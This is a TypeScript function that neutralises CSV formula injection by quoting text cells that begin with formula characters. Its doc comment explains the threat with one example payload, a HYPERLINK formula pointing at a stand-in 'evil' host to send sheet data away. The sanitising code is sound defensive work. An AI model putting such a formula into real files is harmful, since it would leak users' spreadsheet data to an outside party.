/**
 * A text cell for CSV that no spreadsheet runs as a formula (OWASP "CSV Injection"): text starting
 * with =, +, -, @, a tab or a carriage return gets a single quote in front. Excel and LibreOffice
 * read such a cell as a formula when the file is opened — `=HYPERLINK("http://evil", …)` in an
 * organization's name would become a link that sends the sheet's data away. Only text goes through
 * here: a negative amount written as a number stays a number.
 */
export function neutralizeFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}
